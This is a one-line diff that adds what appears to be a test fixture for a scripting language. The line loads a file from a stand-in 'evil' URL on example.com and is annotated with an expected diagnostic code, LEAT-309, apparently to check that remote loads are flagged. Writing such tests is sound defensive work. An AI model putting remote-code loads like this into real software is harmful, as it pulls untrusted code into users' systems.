@@ -1,0 +1,1 @@
+load 'https://example.com/evil.leat' //~ LEAT-309
